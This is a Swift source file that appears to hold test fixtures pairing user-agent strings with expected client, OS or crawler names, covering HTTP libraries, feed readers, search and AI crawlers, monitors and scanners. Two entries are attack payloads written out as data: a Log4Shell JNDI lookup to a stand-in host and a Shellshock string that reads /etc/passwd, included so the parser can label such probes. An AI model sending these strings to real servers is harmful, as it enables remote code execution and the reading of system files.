extension KnownAgent {
  private static let webkit = "AppleWebKit/537.36 (KHTML, like Gecko"

  static let programs = [
    KnownAgent("curl/8.5.0", "curl 8", "Unknown"),
    KnownAgent("Wget/1.21.3 (linux-gnu)", "Wget 1", "Linux"),
    KnownAgent("Wget/1.21.3", "Wget 1", "Unknown"),
    KnownAgent("HTTPie/3.2.2", "HTTPie 3", "Unknown"),
    KnownAgent("python-requests/2.31.0", "python-requests 2", "Unknown"),
    KnownAgent("python-httpx/0.25.2", "python-httpx 0.25", "Unknown"),
    KnownAgent("Python-urllib/3.11", "Python-urllib 3.11", "Unknown"),
    KnownAgent("python-urllib3/2.0.7", "urllib3 2", "Unknown"),
    KnownAgent("Python/3.10 aiohttp/3.8.4", "aiohttp 3", "Unknown"),
    KnownAgent("Go-http-client/1.1", "Go-http-client 1", "Unknown"),
    KnownAgent("Go-http-client/2.0", "Go-http-client 2", "Unknown"),
    KnownAgent("okhttp/4.9.3", "okhttp 4", "Unknown"),
    KnownAgent("Apache-HttpClient/4.5.13 (Java/11.0.20)", "Apache-HttpClient 4", "Unknown"),
    KnownAgent("Java/1.8.0_292", "Java 1.8", "Unknown"),
    KnownAgent("Java/17.0.2", "Java 17.0", "Unknown"),
    KnownAgent("Java-http-client/17.0.8", "Java-http-client 17", "Unknown"),
    KnownAgent("axios/1.6.2", "axios 1", "Unknown"),
    KnownAgent(
      "node-fetch/1.0 (+https://github.com/bitinn/node-fetch)",
      "node-fetch 1",
      "Unknown"
    ),
    KnownAgent("got (https://github.com/sindresorhus/got)", "got", "Unknown"),
    KnownAgent("node", "Node.js", "Unknown"),
    KnownAgent("GuzzleHttp/7", "Guzzle 7", "Unknown"),
    KnownAgent("PHP/8.1.2", "PHP 8", "Unknown"),
    KnownAgent("libwww-perl/6.68", "libwww-perl 6", "Unknown"),
    KnownAgent("Ruby", "Ruby", "Unknown"),
    KnownAgent("Dart/3.1 (dart:io)", "Dart 3.1", "Unknown"),
    KnownAgent("PostmanRuntime/7.36.0", "Postman 7", "Unknown"),
    KnownAgent("git/2.39.2", "Git 2", "Unknown"),
    KnownAgent("docker/24.0.7 go/go1.20.10 os/linux arch/amd64", "Docker 24", "Linux"),
    KnownAgent("Debian APT-HTTP/1.3 (2.6.1)", "APT", "Debian"),
    KnownAgent("libdnf (Fedora Linux 39; workstation; Linux.x86_64)", "DNF", "Fedora 39"),
    KnownAgent("Microsoft-WebDAV-MiniRedir/10.0.19045", "Microsoft WebDAV", "Unknown"),
    KnownAgent("Microsoft BITS/7.8", "Microsoft BITS 7", "Unknown"),
    KnownAgent("VLC/3.0.18 LibVLC/3.0.18", "VLC 3", "Unknown"),
    KnownAgent(
      "AppleCoreMedia/1.0.0.21F79 (iPhone; U; CPU OS 17_5 like Mac OS X; en_us)",
      "AppleCoreMedia",
      "iOS 17"
    ),
    KnownAgent("ApacheBench/2.3", "ApacheBench 2", "Unknown"),
    KnownAgent(
      "Feedly/1.0 (+http://www.feedly.com/fetcher.html; 5 subscribers; like FeedFetcher-Google)",
      "Feedly",
      "Unknown"
    ),
    KnownAgent("Feedbin feed-id:1373711 - 5 subscribers", "Feedbin", "Unknown"),
    KnownAgent("NetNewsWire (RSS Reader; https://netnewswire.com/)", "NetNewsWire", "Unknown"),
    KnownAgent("FreshRSS/1.22.1 (Linux; https://freshrss.org)", "FreshRSS 1", "Linux"),
    KnownAgent("Tiny Tiny RSS/23.12 (https://tt-rss.org/)", "Tiny Tiny RSS 23", "Unknown"),
    KnownAgent(
      "Mozilla/5.0 (compatible; Miniflux/2.0.50; +https://miniflux.app)",
      "Miniflux 2",
      "Unknown"
    ),
    KnownAgent("NewsBlur Feed Fetcher - 12 subscribers", "NewsBlur", "Unknown"),
    KnownAgent("Overcast/3.0 (+http://overcast.fm/; iOS podcast app)", "Overcast 3", "iOS"),
    KnownAgent("AntennaPod/3.2.0", "AntennaPod 3", "Unknown"),
  ]

  static let crawlers = [
    KnownAgent(
      "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
      crawler: "Googlebot"
    ),
    KnownAgent(
      "Mozilla/5.0 (Linux; Android 6.0.1; Nexus 5X Build/MMB29P) \(webkit)) Chrome/120.0.6099.199 "
        + "Mobile Safari/537.36 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
      crawler: "Googlebot"
    ),
    KnownAgent("Googlebot-Image/1.0", crawler: "Googlebot-Image"),
    KnownAgent("AdsBot-Google (+http://www.google.com/adsbot.html)", crawler: "AdsBot-Google"),
    KnownAgent("Mediapartners-Google", crawler: "Google AdSense"),
    KnownAgent("APIs-Google (+https://developers.google.com/)", crawler: "APIs-Google"),
    KnownAgent(
      "FeedFetcher-Google; (+http://www.google.com/feedfetcher.html)",
      crawler: "Google Feedfetcher"
    ),
    KnownAgent("Mozilla/5.0 (compatible; GoogleOther)", crawler: "GoogleOther"),
    KnownAgent(
      "Mozilla/5.0 \(webkit); compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm) "
        + "Chrome/116.0.1938.76 Safari/537.36",
      crawler: "bingbot"
    ),
    KnownAgent(
      "Mozilla/5.0 (compatible; YandexBot/3.0; +http://yandex.com/bots)",
      crawler: "YandexBot"
    ),
    KnownAgent(
      "Mozilla/5.0 (compatible; YandexImages/3.0; +http://yandex.com/bots)",
      crawler: "YandexImages"
    ),
    KnownAgent(
      "Mozilla/5.0 (compatible; Baiduspider/2.0; +http://www.baidu.com/search/spider.html)",
      crawler: "Baiduspider"
    ),
    KnownAgent(
      "DuckDuckBot/1.1; (+http://duckduckgo.com/duckduckbot.html)",
      crawler: "DuckDuckBot"
    ),
    KnownAgent(
      "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) "
        + "Version/17.4 Safari/605.1.15 (Applebot/0.1; +http://www.apple.com/go/applebot)",
      crawler: "Applebot"
    ),
    KnownAgent(
      "Mozilla/5.0 (compatible; Yahoo! Slurp; http://help.yahoo.com/help/us/ysearch/slurp)",
      crawler: "Yahoo! Slurp"
    ),
    KnownAgent(
      "Sogou web spider/4.0(+http://www.sogou.com/docs/help/webmasters.htm#07)",
      crawler: "Sogou Spider"
    ),
    KnownAgent(
      "Mozilla/5.0 (Linux; Android 7.0;) \(webkit)) Mobile Safari/537.36 (compatible; "
        + "PetalBot;+https://webmaster.petalsearch.com/site/petalbot)",
      crawler: "PetalBot"
    ),
    KnownAgent(
      "Mozilla/5.0 (compatible; SeznamBot/4.0; +http://napoveda.seznam.cz/seznambot-intro/)",
      crawler: "SeznamBot"
    ),
    KnownAgent(
      "Mozilla/5.0 (compatible; Qwantify/2.4w; +https://www.qwant.com/)/2.4w",
      crawler: "Qwantify"
    ),
    KnownAgent(
      "Mozilla/5.0 \(webkit); compatible; GPTBot/1.2; +https://openai.com/gptbot)",
      crawler: "GPTBot"
    ),
    KnownAgent(
      "Mozilla/5.0 \(webkit); compatible; ChatGPT-User/1.0; +https://openai.com/bot",
      crawler: "ChatGPT-User"
    ),
    KnownAgent(
      "Mozilla/5.0 \(webkit); compatible; OAI-SearchBot/1.0; +https://openai.com/searchbot",
      crawler: "OAI-SearchBot"
    ),
    KnownAgent(
      "Mozilla/5.0 \(webkit); compatible; ClaudeBot/1.0; +claudebot@anthropic.com)",
      crawler: "ClaudeBot"
    ),
    KnownAgent("CCBot/2.0 (https://commoncrawl.org/faq/)", crawler: "CCBot"),
    KnownAgent(
      "Mozilla/5.0 (Linux; Android 5.0) \(webkit)) Mobile Safari/537.36 (compatible; Bytespider; "
        + "spider-feedback@bytedance.com)",
      crawler: "Bytespider"
    ),
    KnownAgent(
      "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_10_1) AppleWebKit/600.2.5 (KHTML, like Gecko) "
        + "Version/8.0.2 Safari/600.2.5 (Amazonbot/0.1; +https://developer.amazon.com/amazonbot)",
      crawler: "Amazonbot"
    ),
    KnownAgent(
      "Mozilla/5.0 \(webkit); compatible; PerplexityBot/1.0; +https://perplexity.ai/perplexitybot)",
      crawler: "PerplexityBot"
    ),
    KnownAgent(
      "meta-externalagent/1.1 (+https://developers.facebook.com/docs/sharing/webmasters/crawler)",
      crawler: "Meta-ExternalAgent"
    ),
    KnownAgent(
      "Mozilla/5.0 (compatible; ImagesiftBot; +imagesift.com)",
      crawler: "ImagesiftBot"
    ),
    KnownAgent("Scrapy/2.11.0 (+https://scrapy.org)", crawler: "Scrapy"),
    KnownAgent(
      "Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)",
      crawler: "AhrefsBot"
    ),
    KnownAgent(
      "Mozilla/5.0 (compatible; SemrushBot/7~bl; +http://www.semrush.com/bot.html)",
      crawler: "SemrushBot"
    ),
    KnownAgent("Mozilla/5.0 (compatible; MJ12bot/v1.4.8; http://mj12bot.com/)", crawler: "MJ12bot"),
    KnownAgent(
      "Mozilla/5.0 (compatible; DotBot/1.2; +https://opensiteexplorer.org/dotbot)",
      crawler: "DotBot"
    ),
    KnownAgent(
      "Mozilla/5.0 (compatible; DataForSeoBot/1.0; +https://dataforseo.com/dataforseo-bot)",
      crawler: "DataForSeoBot"
    ),
    KnownAgent("Screaming Frog SEO Spider/19.4", crawler: "Screaming Frog SEO Spider"),
    KnownAgent(
      "facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)",
      crawler: "Facebook"
    ),
    KnownAgent("Twitterbot/1.0", crawler: "Twitterbot"),
    KnownAgent(
      "LinkedInBot/1.0 (compatible; Mozilla/5.0; Apache-HttpClient +http://www.linkedin.com)",
      crawler: "LinkedInBot"
    ),
    KnownAgent("WhatsApp/2.23.20.0", crawler: "WhatsApp"),
    KnownAgent("TelegramBot (like TwitterBot)", crawler: "Twitterbot"),
    KnownAgent(
      "Slackbot-LinkExpanding 1.0 (+https://api.slack.com/robots)",
      crawler: "Slackbot"
    ),
    KnownAgent(
      "Mozilla/5.0 (compatible; Discordbot/2.0; +https://discordapp.com)",
      crawler: "Discordbot"
    ),
    KnownAgent(
      "http.rb/5.1.1 (Mastodon/4.2.3; +https://mastodon.example/)",
      crawler: "Mastodon"
    ),
    KnownAgent("WordPress/6.4.2; https://blog.example", crawler: "WordPress"),
    KnownAgent(
      "Mozilla/5.0 (compatible; UptimeRobot/2.0; http://www.uptimerobot.com/)",
      crawler: "UptimeRobot"
    ),
    KnownAgent("Pingdom.com_bot_version_1.4_(http://www.pingdom.com/)", crawler: "Pingdom"),
    KnownAgent("kube-probe/1.27", crawler: "kube-probe"),
    KnownAgent("ELB-HealthChecker/2.0", crawler: "ELB-HealthChecker"),
    KnownAgent("GoogleHC/1.0", crawler: "GoogleHC"),
    KnownAgent("check_http/v2.3.3 (nagios-plugins 2.3.3)", crawler: "Nagios"),
    KnownAgent("Uptime-Kuma/1.23.11", crawler: "Uptime-Kuma"),
    KnownAgent("Prometheus/2.48.0", crawler: "Prometheus"),
    KnownAgent(
      "Mozilla/5.0 (compatible; CensysInspect/1.1; +https://about.censys.io/)",
      crawler: "CensysInspect"
    ),
    KnownAgent("Mozilla/5.0 zgrab/0.x", crawler: "zgrab"),
    KnownAgent("masscan/1.3 (https://github.com/robertdavidgraham/masscan)", crawler: "masscan"),
    KnownAgent("Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:Port Check)", crawler: "Nikto"),
    KnownAgent("sqlmap/1.7.12#stable (https://sqlmap.org)", crawler: "sqlmap"),
    KnownAgent("WPScan v3.8.25 (https://wpscan.com/wordpress-security-scanner)", crawler: "WPScan"),
    KnownAgent(
      "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
      crawler: "Nmap"
    ),
    KnownAgent(
      "Expanse, a Palo Alto Networks company, searches across the global IPv4 space",
      crawler: "Palo Alto Expanse"
    ),
    KnownAgent("Hello, World", crawler: "Mozi"),
    KnownAgent("${jndi:ldap://198.51.100.7/a}", crawler: "Log4Shell probe"),
    KnownAgent("() { :; }; /bin/cat /etc/passwd", crawler: "Shellshock probe"),
    KnownAgent(
      "Mozilla/5.0 (compatible; Nimbostratus-Bot/v1.3.2; http://cloudsystemnetworks.com)",
      crawler: "Nimbostratus-Bot"
    ),
    // Crawlers that are in no table.
    KnownAgent("Mozilla/5.0 (compatible; FormFinder/1.0)", crawler: "FormFinder"),
    KnownAgent(
      "Mozilla/5.0 \(webkit); compatible; Shopping-User/0.1) Chrome/119.0.6045.214 Safari/537.36",
      crawler: "Shopping-User"
    ),
    KnownAgent("Mozilla/5.0 (compatible; Ezooms/1.0; help@moz.example)", crawler: "Ezooms"),
    KnownAgent("Mozilla/5.0 (compatible; ExampleBot/1.0)", crawler: "ExampleBot"),
    KnownAgent("Acme Crawler/2.1", crawler: "Acme Crawler"),
    KnownAgent("my-own-spider", crawler: "my-own-spider"),
    KnownAgent("LinkSaver/3.1 (+https://links.example/about)", crawler: "LinkSaver"),
    KnownAgent(
      "Mozilla/5.0 (compatible; PageWatch/1.0; +http://watch.example)",
      crawler: "PageWatch"
    ),
    KnownAgent("Mozilla/5.0 (http://research.example/scan)", crawler: "research.example"),
  ]
}
